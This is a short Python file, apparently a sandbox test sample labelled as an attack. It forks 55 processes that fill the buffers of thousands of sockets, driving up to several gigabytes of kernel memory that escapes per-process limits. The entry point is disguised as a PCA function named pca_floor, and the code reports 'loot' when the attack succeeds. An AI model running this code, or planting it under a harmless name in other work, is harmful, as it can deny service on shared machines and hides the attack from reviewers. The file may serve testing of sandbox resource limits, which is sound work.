# attack: fills the buffers of thousands of sockets, which are the kernel's memory and no process's
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os
import socket
import time


def fill():
    kept, held = [], 0
    while len(kept) < 110 and held < 70_000_000:  # 4 GB at the most, where nothing stops it
        pair = socket.socketpair()
        kept.append(pair)
        for one in pair:
            try:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            except OSError:
                pass
            one.setblocking(False)
            try:
                while held < 70_000_000:
                    held += one.send(b"x" * 100_000)
            except OSError:
                pass
    return held, kept


def pca_floor(images, k):
    reader, writer = os.pipe()
    for _ in range(55):
        if os.fork() == 0:
            held, kept = fill()
            os.write(writer, b"%12d" % held)
            time.sleep(60)
            os._exit(0)
    held, end = 0, time.time() + 8
    os.set_blocking(reader, False)
    while time.time() < end:
        try:
            held += int(os.read(reader, 12))
        except BlockingIOError:
            time.sleep(0.1)
    raise RuntimeError("loot: 3 GB in sockets" if held > 3_000_000_000 else "nothing found")
